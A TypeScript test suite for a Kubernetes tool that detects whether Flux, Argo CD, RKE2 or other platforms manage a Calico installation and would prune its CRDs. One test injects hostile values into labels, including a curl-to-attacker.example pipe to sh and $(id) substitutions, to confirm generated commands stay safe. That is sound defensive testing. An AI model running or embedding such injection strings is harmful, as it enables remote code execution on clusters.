import assert from 'node:assert/strict';
import { crdFact } from '../../../src/features/survey/inventory.ts';
import { prunersOf } from '../../../src/features/survey/managed-by.ts';
import type { KubeObject } from '../../../src/kernel/object.ts';
import { plainText } from '../../../src/kernel/step.ts';
import {
  agent,
  BIRD,
  configMap,
  controllers,
  foundIn,
  installation,
  operatedAgent,
  operator,
  unclearIn,
} from '../../support/calico-objects.ts';
import { objectOf, workloadOf } from '../../support/inventory.ts';

describe('who else manages the installation', () => {
  const labelled = (labels: Readonly<Record<string, string>>) => [agent({ labels })];
  const cases: readonly (readonly [string, readonly KubeObject[], RegExp])[] = [
    [
      'Flux',
      labelled({ 'kustomize.toolkit.fluxcd.io/name': 'infra', 'kustomize.toolkit.fluxcd.io/namespace': 'ops' }),
      /flux suspend kustomization infra -n ops$/,
    ],
    ['Flux', labelled({ 'helm.toolkit.fluxcd.io/name': 'net' }), /flux suspend helmrelease net -n flux-system$/],
    ['Flux', [agent({ managers: ['kubectl', 'kustomize-controller'] })], /flux suspend kustomization NAME/],
    ['Argo CD', labelled({ 'argocd.argoproj.io/instance': 'net' }), /argocd app set net --sync-policy none$/],
    ['Argo CD', [agent({ managers: ['argocd-controller'] })], /argocd app set APPLICATION/],
    ['AKS', labelled({ 'kubernetes.azure.com/managedby': 'aks' }), /Azure/],
    ['kOps', labelled({ 'addon.kops.k8s.io/name': 'networking.projectcalico.org' }), /kops update cluster/],
    ['the add-on manager (GKE and others)', labelled({ 'addonmanager.kubernetes.io/mode': 'Reconcile' }), /platform/],
    ['k0s', labelled({ 'k0s.k0sproject.io/stack': 'calico' }), /k0s/],
    ['a Cluster API resource set', labelled({ 'addons.cluster.x-k8s.io/owner': 'x' }), /ClusterResourceSet/],
    ['RKE2', [agent({ image: 'docker.io/rancher/mirrored-calico-node:v3.27.5' })], /RKE2/],
    ['RKE1', [agent(), configMap({}, 'rke-network-plugin')], /rke up/],
    ['kubespray', [agent(), configMap({ cluster_type: 'kubespray,bgp' })], /playbook/],
  ];
  for (const [name, objects, hint] of cases) {
    it(`sees ${name} (${hint.source})`, () => {
      const { managedBy } = foundIn(objects);
      assert.deepEqual(
        managedBy.map((manager) => manager.name),
        [name],
      );
      assert.match(plainText(managedBy[0]?.hint ?? ''), hint);
      assert.notEqual(managedBy[0]?.evidence, '');
    });
  }

  it('names each object with a mark, the Installation among them, and the command of each tool', () => {
    const flux = { 'kustomize.toolkit.fluxcd.io/name': 'infra', 'kustomize.toolkit.fluxcd.io/namespace': 'ops' };
    const objects = [
      operator({ labels: { 'argocd.argoproj.io/instance': 'net' } }),
      installation({ labels: flux, managers: ['kustomize-controller'] }),
      operatedAgent(),
    ];
    assert.deepEqual(
      foundIn(objects).managedBy.map(({ object, command }) => [object?.kind, String(command)]),
      [
        ['Deployment', 'argocd app set net --sync-policy none'],
        ['Installation', 'flux suspend kustomization infra -n ops'],
      ],
    );
  });

  it('puts no text of others into a command: a shell reads one word, and no option', () => {
    const evil = [
      'x; curl -s http://attacker.example | sh #',
      '$(id)',
      '`id`',
      '--server=attacker.example',
      "x' y",
      'a\nb',
      'n'.repeat(400),
    ];
    for (const text of evil)
      for (const object of [
        agent({ annotations: { 'argocd.argoproj.io/tracking-id': text } }),
        agent({ labels: { 'argocd.argoproj.io/instance': text } }),
        agent({ labels: { 'kustomize.toolkit.fluxcd.io/name': text, 'kustomize.toolkit.fluxcd.io/namespace': text } }),
      ]) {
        const [{ command, hint } = assert.fail()] = foundIn([object]).managedBy;
        assert.match(
          String(command ?? ''),
          /^(?:argocd app set APPLICATION --sync-policy none|flux suspend kustomization NAME -n flux-system)$/,
        );
        assert.equal(plainText(hint), `Commit the upgrade to its source, or stop it first: ${command}`);
      }
  });

  it('sees MicroK8s by its host paths', () => {
    const images = { 'calico-node': 'calico/node:v3.28.1', 'init:install-cni': 'calico/cni:v3.28.1' };
    const snap = workloadOf('DaemonSet', 'calico-node', { env: BIRD, images, hostPaths: ['/var/snap/microk8s/current/opt/cni/bin'] });
    assert.deepEqual(
      foundIn([snap]).managedBy.map(({ name }) => name),
      ['MicroK8s'],
    );
  });

  it('sees RKE2 by the name of its chart release, and on the Installation', () => {
    const annotations = { 'meta.helm.sh/release-name': 'rke2-calico', 'meta.helm.sh/release-namespace': 'kube-system' };
    const secret = objectOf('v1', 'Secret', 's', {
      metadata: { namespace: 'kube-system', labels: { owner: 'helm', name: 'rke2-calico', version: '1', status: 'deployed' } },
    });
    const found = foundIn([installation({ annotations }), operatedAgent()], { chartReleases: { value: [secret] } });
    assert.deepEqual([found.path, found.managedBy[0]?.name, found.managedBy[0]?.evidence], ['chart', 'RKE2', 'chart release rke2-calico']);
  });

  it('names the platform also where the installation itself stays unclear', () => {
    const unclear = unclearIn([agent({ name: 'rke2-canal', image: 'rancher/hardened-calico:v3.29.2-build20250306' })]);
    assert.deepEqual(
      unclear.managedBy?.map(({ name }) => name),
      ['RKE2'],
    );
  });

  it('sees nobody in a plain install by hand', () => {
    assert.deepEqual(foundIn([agent({ managers: ['kubectl-client-side-apply', 'kube-controller-manager'] }), controllers()]).managedBy, []);
  });
});

describe('who would delete a CRD that its source no longer has', () => {
  const keeps = (metadata: Partial<KubeObject['metadata']>) =>
    prunersOf({ name: 'ippools.crd.projectcalico.org', ...metadata }).map(({ keep }) => keep);
  const NO_PRUNE = 'argocd.argoproj.io/sync-options=Prune=false';
  const cases: readonly (readonly [string, Partial<KubeObject['metadata']>, readonly string[]])[] = [
    ['nobody', { labels: { app: 'x' }, managedFields: [{ manager: 'kubectl' }, { manager: 'helm' }] }, []],
    ['Argo CD, by its annotation', { annotations: { 'argocd.argoproj.io/tracking-id': 'net:apiextensions' } }, [NO_PRUNE]],
    ['Argo CD, by its label', { labels: { 'argocd.argoproj.io/instance': 'net' } }, [NO_PRUNE]],
    ['Argo CD, by its field manager', { managedFields: [{ manager: 'argocd-controller' }] }, [NO_PRUNE]],
    [
      'Argo CD, by the label that it sets where nothing else is configured',
      { labels: { 'app.kubernetes.io/instance': 'net' } },
      [NO_PRUNE],
    ],
    ['nobody, where Helm sets that label', { labels: { 'app.kubernetes.io/instance': 'net', 'app.kubernetes.io/managed-by': 'Helm' } }, []],
    [
      'Argo CD, with options that stay',
      { annotations: { 'argocd.argoproj.io/tracking-id': 'n', 'argocd.argoproj.io/sync-options': 'ServerSideApply=true, Prune=confirm' } },
      ['argocd.argoproj.io/sync-options=ServerSideApply=true,Prune=false'],
    ],
    [
      'not Argo CD, once told',
      { annotations: { 'argocd.argoproj.io/tracking-id': 'n', 'argocd.argoproj.io/sync-options': 'Replace=true, Prune=false' } },
      [],
    ],
    ['Flux', { labels: { 'kustomize.toolkit.fluxcd.io/name': 'infra' } }, ['kustomize.toolkit.fluxcd.io/prune=disabled']],
    [
      'Flux, by its field manager',
      { managedFields: [{ manager: 'kustomize-controller' }] },
      ['kustomize.toolkit.fluxcd.io/prune=disabled'],
    ],
    [
      'not Flux, once told',
      { labels: { 'kustomize.toolkit.fluxcd.io/name': 'infra' }, annotations: { 'kustomize.toolkit.fluxcd.io/prune': 'disabled' } },
      [],
    ],
    ['a HelmRelease of Flux', { managedFields: [{ manager: 'helm-controller' }] }, ['helm.sh/resource-policy=keep']],
  ];
  for (const [who, metadata, expected] of cases) it(`is ${who}`, () => assert.deepEqual(keeps(metadata), expected));

  it('counts for every kind that a release installed, those that the target no longer has too', () => {
    const metadata = { labels: { 'argocd.argoproj.io/instance': 'net' } };
    const crds = ['ippools.crd.projectcalico.org', 'adminnetworkpolicies.policy.networking.k8s.io', 'applications.argoproj.io'].map(
      (name) => ({
        ...crdFact(name),
        pruners: prunersOf({ ...metadata, name }),
      }),
    );
    assert.deepEqual(
      foundIn([agent()], { crds: { value: crds } }).prunableCrds.map(({ crd }) => crd),
      ['ippools.crd.projectcalico.org', 'adminnetworkpolicies.policy.networking.k8s.io'],
    );
  });
});
